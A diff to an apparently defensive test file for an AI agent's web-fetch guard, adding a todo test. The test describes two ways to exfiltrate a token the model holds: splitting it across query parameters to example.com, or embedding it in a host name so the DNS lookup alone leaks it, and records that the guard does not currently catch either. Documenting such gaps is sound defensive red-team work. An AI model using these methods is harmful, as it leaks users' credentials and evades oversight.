@@ -110,3 +110,9 @@ describe('a large file that holds a credential', () => {
     }
   });
 });
+
+describe('web_fetch of what the model already holds', () => {
+  it.todo(
+    'asks for a token split over two query parameters (https://example.com/?a=ghp_<first 20>&b=<rest>) or carried in a host name (https://ghp-<token>.example.com/: the DNS lookup alone sends it): both get no card today; the class is two-call exfiltration (s5 redteam2 open item 1)',
+  );
+});
